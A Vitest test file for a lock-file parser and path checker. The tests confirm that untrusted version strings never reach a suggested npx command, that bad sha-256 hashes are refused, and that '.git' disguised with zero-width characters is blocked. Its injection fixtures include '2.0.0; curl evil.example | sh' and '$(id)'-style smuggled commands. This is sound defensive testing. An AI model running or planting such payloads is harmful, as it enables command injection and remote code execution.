/** A lock and paths that a stranger wrote: nothing of it may end in a command line, and no spelling slips by. */
import { describe, expect, it } from 'vitest';
import { checkPath } from '../../../src/core/jail.ts';
import { serializeLock } from '../../../src/core/lock.ts';
import { parseLock } from '../../../src/core/lock-reader.ts';
import { SetupError } from '../../../src/errors.ts';
import type { Lock } from '../../../src/model.ts';

const HASH = 'a'.repeat(64);
const LOCK: Lock = {
  version: 1,
  tool: '1.0.0',
  config: 'c'.repeat(64),
  pinned: { node: '22' },
  files: { 'a.yml': { generator: 'docker', hash: HASH, mode: 0o644, ownership: 'own' } },
};
const TEXT = serializeLock(LOCK);

function told(text: string): readonly string[] {
  try {
    parseLock(text);
  } catch (error) {
    if (error instanceof SetupError) return error.problems.map(({ message, hint }) => `${message} ${hint}`);
    throw error;
  }
  return [];
}

describe('a lock of a later release', () => {
  const later = (tool: string) => TEXT.replace('"version": 1', '"version": 2').replace('"1.0.0"', JSON.stringify(tool));

  it('names the release to run', () => {
    for (const release of ['2.0.0', '2.0.0-rc.1'])
      expect(told(later(release))).toEqual([
        `its version is 2, written by release ${release}; this release reads version 1. Use that release or a newer one: npx create-devops-setup@${release}`,
      ]);
  });

  it.each(['2.0.0; curl evil.example | sh', '2.0.0 && id', '2.0.0\nid', '$(id)2.0.0', 'x 2.0.0', '2.0', '2.0.0-'])(
    'puts no command of its own, %j, into the mouth of ours',
    (tool) => {
      expect(told(later(tool))).toEqual(['its version is 2; this release reads version 1. Use a newer release.']);
    },
  );
});

describe('a hash', () => {
  it.each([`${HASH}0`, `0${HASH}`, `${HASH}\n`, HASH.slice(1), HASH.toUpperCase()])(
    'that is none, %j, is refused',
    (hash) => {
      const refused = (text: string) => expect(told(text)[0]).toContain('is not a sha-256');
      refused(TEXT.replace(HASH, JSON.stringify(hash).slice(1, -1)));
      refused(TEXT.replace(LOCK.config, JSON.stringify(hash).slice(1, -1)));
    },
  );

  it('of marks that is none is told with its file', () => {
    const open = (yours: string, theirs: string) =>
      TEXT.replace('"ownership"', `"open":{"theirs":"${theirs}","yours":"${yours}"},"ownership"`);
    expect(told(open(HASH, HASH))).toEqual([]);
    expect(told(open('x', HASH))[0]).toMatch(/^"yours" of a\.yml is not a sha-256\./);
    expect(told(open(HASH, 'x'))[0]).toMatch(/^"theirs" of a\.yml is not a sha-256\./);
  });
});

describe('a path', () => {
  it.each([
    '.g\u200bi\u200bt/config',
    '\u200d.\u200dg\u200dit/x',
    '.G\u2060I\u2060T/hooks/x',
    '.git\u200b\u200b/config',
  ])('%j is .git where format characters do not count, however many there are', (path) => {
    expect(checkPath(path)?.message).toContain('reaches into .git');
  });

  it('that is empty, or begins with a stroke, says so', () => {
    expect(checkPath('')).toMatchObject({ place: '(empty path)', message: 'this path is refused: it is empty.' });
    expect(checkPath('/a')?.message).toContain('it is absolute');
    expect(checkPath('a//b')?.message).toContain('a part of it is empty');
  });
});
